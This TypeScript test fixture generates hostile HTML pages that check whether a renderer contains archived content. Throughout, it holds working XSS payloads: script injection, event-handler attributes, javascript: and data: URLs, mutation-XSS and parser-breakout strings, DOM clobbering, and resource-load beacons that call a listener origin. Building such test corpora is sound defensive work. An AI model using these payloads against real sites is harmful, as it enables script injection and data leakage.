import { hostileMarkup } from "./hostileMarkup";

/**
 * Pages that try to run something, send something, or leave their frame. Each calls `listener` (an origin that should hear
 * nothing) with its own name, or sets `hostile` on every window it can reach. Used wherever a representation is drawn.
 */
export interface HostilePage {
  readonly name: string;
  readonly html: string;
}

/** A visible sentence in every page, so that tests can see that it was drawn. */
export const hostileSentence = "The archived sentence stands here.";

export function hostilePages(listener: string): readonly HostilePage[] {
  const url = (name: string) => `${listener}/heard/${name}`;
  const run = (name: string) =>
    `try{top.hostile='${name}'}catch{}try{parent.hostile='${name}'}catch{}self.hostile='${name}';try{new Image().src='${url(name)}'}catch{}`;
  const page = (name: string, body: string, head = ""): HostilePage => ({
    name,
    html: `<!doctype html><html><head><title>Page</title>${head}</head><body><p>${hostileSentence}</p>${body}</body></html>`,
  });
  const inert = (text: string) => text.replace(/"/g, "&quot;");

  const scripts: HostilePage[] = [
    page("script", `<script>${run("script")}</script>`),
    page("script-src", `<script src="${url("script-src")}"></script>`),
    page("script-module", `<script type="module">import "${url("script-module")}"</script>`),
    page("script-in-head", "", `<script>${run("script-in-head")}</script>`),
    page("svg-script", `<svg><script>${run("svg-script")}</script></svg>`),
    page("svg-script-href", `<svg><script href="${url("svg-script-href")}"/></svg>`),
    page(
      "template-script",
      `<template><script>${run("template-script")}</script></template><template shadowrootmode="open"><script>${run("template-script")}</script><img src="${url("template-script")}"></template>`,
    ),
    page("noscript-breakout", `<noscript><p title="</noscript><script>${run("noscript-breakout")}</script>"></noscript>`),
    page(
      "comment-breakout",
      `<!--><script>${run("comment-breakout")}</script>--><!-- --!><img src=x onerror="${inert(run("comment-breakout"))}"> -->`,
    ),
    page("cdata-breakout", `<svg><![CDATA[><image xlink:href="]]><img src=x onerror='${run("cdata-breakout").replace(/'/g, "`")}'>"></svg>`),
    page("javascript-link", `<a href="javascript:${inert(run("javascript-link"))}" id="first">press</a>`),
    page("data-link", `<a href="data:text/html,<script>parent.hostile=1</script>" target="_top">press</a>`),
    page("javascript-frame", `<iframe src="javascript:${inert(run("javascript-frame"))}"></iframe>`),
    page("srcdoc-frame", `<iframe srcdoc="<script>${inert(run("srcdoc-frame"))}</script>"></iframe>`),
    page("object-data", `<object data="data:text/html,<script>parent.hostile=1</script>"></object><embed src="${url("object-data")}">`),
    page(
      "math-mutation",
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${inert(run("math-mutation"))}&gt;"></table></mtext></math>`,
    ),
    page("svg-mutation", `<svg></p><style><a id="</style><img src=1 onerror=${inert(run("svg-mutation"))}>"></svg>`),
    page("form-mutation", `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${inert(run("form-mutation"))}"></form>`),
    page("select-mutation", `<select><iframe></select><img src=x onerror="${inert(run("select-mutation"))}"></select>`),
    page("xmp-breakout", `<xmp><p title="</xmp><img src=x onerror='${run("xmp-breakout").replace(/'/g, "`")}'>"></xmp>`),
    page(
      "clobbering",
      `<form id="body"></form><img name="createElement"><a id="documentElement" href="javascript:1"></a><input name="attributes"><form name="normalize"></form>`,
    ),
    page(
      "event-replace",
      `<svg><animate attributeName="href" values="javascript:${inert(run("event-replace"))}"/><set attributeName="onload" to="${inert(run("event-replace"))}"/></svg>`,
    ),
  ];
  const handlers = [
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onblur",
    "onkeydown",
    "onkeyup",
    "onpointerdown",
    "onscroll",
    "onanimationstart",
    "ontransitionend",
    "ontoggle",
    "onbeforetoggle",
    "oncopy",
    "onselectstart",
    "onwheel",
    "onauxclick",
    "oncontentvisibilityautostatechange",
  ].map((handler) =>
    page(
      `handler-${handler}`,
      `<div tabindex=1 autofocus ${handler}="${inert(run(`handler-${handler}`))}">here</div><img src=x ${handler}="${inert(run(`handler-${handler}`))}"><body ${handler}="${inert(run(`handler-${handler}`))}"><details open ${handler}="${inert(run(`handler-${handler}`))}"><summary>s</summary></details><svg ${handler}="${inert(run(`handler-${handler}`))}"></svg>`,
    ),
  );
  const loads: HostilePage[] = (
    [
      ["img", (to) => `<img src="${to}">`],
      ["img-srcset", (to) => `<img srcset="${to} 1x" src="${to}">`],
      ["picture", (to) => `<picture><source srcset="${to}"><img src="${to}"></picture>`],
      ["background", (to) => `<table background="${to}"><tr><td background="${to}">x</table>`],
      ["style-background", (to) => `<p style="background:url(${to});list-style:url(${to});cursor:url(${to}),auto">x</p>`],
      [
        "style-sheet",
        (to) =>
          `<style>@import "${to}"; @font-face{font-family:f;src:url(${to})} p{font-family:f;background:url(${to})} input[value^=a]{background:url(${to})}</style><input value="a">`,
      ],
      [
        "link-sheet",
        (to) =>
          `<link rel="stylesheet" href="${to}"><link rel="prefetch" href="${to}"><link rel="preload" as="image" href="${to}"><link rel="dns-prefetch" href="${to}"><link rel="icon" href="${to}">`,
      ],
      ["frame", (to) => `<iframe src="${to}"></iframe>`],
      ["lazy-frame", (to) => `<iframe loading="eager" src="${to}" allow="*"></iframe>`],
      ["video", (to) => `<video autoplay src="${to}" poster="${to}"><source src="${to}"><track default src="${to}"></video>`],
      ["audio", (to) => `<audio autoplay src="${to}"></audio>`],
      ["object", (to) => `<object data="${to}"></object>`],
      ["embed", (to) => `<embed src="${to}">`],
      ["svg-image", (to) => `<svg><image href="${to}" xlink:href="${to}"/><use href="${to}#a"/><feImage href="${to}"/></svg>`],
      ["svg-style", (to) => `<svg><style>@import url(${to});</style><rect fill="url(${to}#a)" style="filter:url(${to}#b)"/></svg>`],
      ["input-image", (to) => `<input type="image" src="${to}">`],
      ["refresh", (to) => `<meta http-equiv="refresh" content="0;url=${to}">`],
      ["refresh-javascript", () => `<meta http-equiv="refresh" content="0;url=javascript:parent.hostile=1">`],
      ["base", (to) => `<base href="${to}/"><img src="relative.png">`],
      [
        "form-autosubmit",
        (to) => `<form action="${to}" id="f"><input name="q" value="secret" autofocus><button formaction="${to}">go</button></form>`,
      ],
      ["ping", (to) => `<a ping="${to}" href="${to}">press</a>`],
      ["manifest", (to) => `<link rel="manifest" href="${to}"><link rel="modulepreload" href="${to}">`],
      ["applet", (to) => `<applet code="${to}" archive="${to}"></applet>`],
      ["body-background", (to) => `<body background="${to}">`],
      ["csp-report", (to) => `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${to}">`],
      ["set-cookie", () => `<meta http-equiv="Set-Cookie" content="hostile=1">`],
      ["portal", (to) => `<portal src="${to}"></portal><fencedframe src="${to}"></fencedframe>`],
      ["css-image-set", (to) => `<p style="background-image:image-set('${to}' 1x);content:url(${to});border-image:url(${to})">x</p>`],
      ["marquee", (to) => `<marquee onstart="parent.hostile=1" background="${to}">x</marquee>`],
      ["popover", () => `<div popover id="pop">x</div><button popovertarget="pop" commandfor="pop" command="show-popover">press</button>`],
      [
        "import-map",
        (to) =>
          `<script type="importmap">{"imports":{"a":"${to}"}}</script><script type="speculationrules">{"prefetch":[{"urls":["${to}"]}]}</script>`,
      ],
    ] as const satisfies readonly (readonly [string, (to: string) => string])[]
  ).map(([name, body]) =>
    page(
      `load-${name}`,
      body(url(`load-${name}`)),
      /^(style-sheet|link-sheet|refresh|base|manifest|csp-report|import-map)/.test(name) ? body(url(`load-${name}`)) : "",
    ),
  );
  const frames: HostilePage[] = [
    page(
      "target-top",
      `<a href="${url("target-top")}" target="_top">press</a><a href="${url("target-top")}" target="_parent">press</a><a href="${url("target-top")}" target="_blank">press</a><area href="${url("target-top")}">`,
    ),
    page(
      "cover",
      `<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div><dialog open style="position:fixed;inset:0">cover</dialog>`,
    ),
    page("keys", `<button accesskey="j" onclick="parent.hostile=1">press</button><input autofocus accesskey="p"><textarea autofocus>x</textarea>`),
    page("entities", `&lt;script&gt;${run("entities")}&lt;/script&gt;<p title="&lt;/p&gt;&lt;script&gt;parent.hostile=1&lt;/script&gt;">x</p>`),
    page("null-bytes", `<scr\u0000ipt>${run("null-bytes")}</scr\u0000ipt><img src=x one\u0000rror="${inert(run("null-bytes"))}">`),
    page("nested-tables", `<table><table><a><table><img src="${url("nested-tables")}"></a></table></table><a>`.repeat(40)),
    page("deep", `${"<div>".repeat(2000)}<script>${run("deep")}</script><img src="${url("deep")}">`),
  ];
  const planting = { url, code: (name: string) => inert(run(name)) };
  const markup = hostileMarkup.map(([name, body]) => page(name, body(name, planting), name.startsWith("style-") ? body(name, planting) : ""));
  return [...scripts, ...handlers, ...loads, ...frames, ...markup];
}
